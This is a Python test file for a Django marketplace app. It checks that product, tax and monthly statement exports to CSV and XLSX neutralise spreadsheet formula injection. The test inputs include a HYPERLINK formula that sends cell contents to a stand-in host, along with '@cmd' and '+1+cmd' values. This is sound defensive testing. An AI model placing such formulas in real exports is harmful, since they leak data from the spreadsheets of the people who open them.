"""Exports a person opens in a spreadsheet program never carry a live formula."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from catalog.models import Product
from core.spreadsheet import spreadsheet_safe
from orders import services
from producers.models import Producer
from tests.factories.catalog import ProductFactory
from tests.factories.orders import PaymentFactory

pytestmark = pytest.mark.django_db

DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+cmd", "-2+3", "@SUM(A1:A9)", "\tTab", "\r=1"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_starts_are_neutralised_and_numbers_are_not(value):
    assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_safe(-50000) == -50000
    assert spreadsheet_safe("Bánh pía -5%") == "Bánh pía -5%"


def test_the_admin_product_export_in_csv_and_xlsx(client, editor):
    ProductFactory(name='=HYPERLINK("http://x.example","Bánh pía")', unit="@hộp")
    client.force_login(editor)
    url = reverse("wagtailsnippets_catalog_product:list")
    response = client.get(url, {"export": "csv"})
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    (row,) = [r for r in rows if "HYPERLINK" in "".join(r.values())]
    assert [v for v in row.values() if v.startswith(("=", "+", "-", "@"))] == []
    assert "'=HYPERLINK(" in body and "'@hộp" in body

    response = client.get(url, {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [c.value for r in sheet.iter_rows() for c in r if isinstance(c.value, str)]
    assert '\'=HYPERLINK("http://x.example","Bánh pía")' in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    assert Product.objects.count() == 1


def test_the_tax_export_and_the_monthly_statement(client, placed_order, stall_with_products, editor):
    stall_a = stall_with_products[0]
    Producer.objects.filter(pk=stall_a.producer_id).update(legal_name="=1+1", representative="@cmd")
    order = placed_order("card")
    services.mark_paid(order, payment=PaymentFactory(order=order, method=order.payment_method))
    month = timezone.localdate().strftime("%Y-%m")
    client.force_login(editor)
    lines = list(csv.reader(io.StringIO(client.get(reverse("orders:tax-export", args=[month])).content.decode())))
    assert lines[1][1] == "'=1+1" and lines[1][5] == "'@cmd"
    goods = dict(zip(lines[0], lines[1], strict=True))
    assert [goods["revenue"], goods["vat_withheld"], goods["pit_withheld"]] == [
        "380000",
        "3800",
        "1900",
    ]  # numbers, goods only

    owner = editor
    Producer.objects.filter(pk=stall_a.producer_id).update(owner=owner)
    statement = client.get(reverse("orders:statement", args=[stall_a.pk, month]), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(statement.content.decode())))
    assert rows[1][0] == order.number and rows[-2][0] == "TOTAL"
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    assert "-3800" in rows[1]  # a negative amount is a number, not neutralised text
